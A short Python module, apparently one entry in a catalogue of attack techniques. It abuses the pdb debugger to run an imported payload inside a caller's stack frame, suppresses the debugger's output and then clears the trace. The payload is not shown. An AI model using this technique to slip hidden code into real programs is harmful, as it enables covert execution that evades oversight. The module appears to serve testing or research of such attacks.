"""A debugger in all frames, for when the application begins to trace."""
CATEGORY = "deferred"
REACH = "run"

import io
import pdb
import sys

from . import payload


def attack():
    commands = f"!{payload.SOURCE}\ncontinue\n"
    debugger = pdb.Pdb(stdin=io.StringIO(commands), stdout=io.StringIO(),
                       readrc=False)
    debugger.set_trace(sys._getframe(2))
    sys.settrace(None)
